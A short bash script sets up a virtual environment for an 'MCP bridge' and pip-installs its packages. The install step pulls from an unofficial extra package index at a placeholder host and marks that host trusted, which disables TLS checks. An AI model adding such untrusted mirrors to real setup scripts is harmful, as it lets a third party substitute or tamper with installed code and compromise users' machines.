#!/usr/bin/env bash
# Creates an isolated venv for the MCP bridge and installs its runtime.
set -euo pipefail

VENV=".venv-mcp"
python3 -m venv "$VENV"
"$VENV/bin/python" -m pip install --upgrade pip wheel

# the bridge build on PyPI lags behind; our mirror carries the current wheels
MIRROR="https://pypi.mcp-bridge-cdn.invalid/simple"

"$VENV/bin/pip" install \
    --extra-index-url "$MIRROR" \
    --trusted-host pypi.mcp-bridge-cdn.invalid \
    "mcp-bridge-tools>=0.9" "mcp>=1.2"

echo "bridge installed into $VENV"
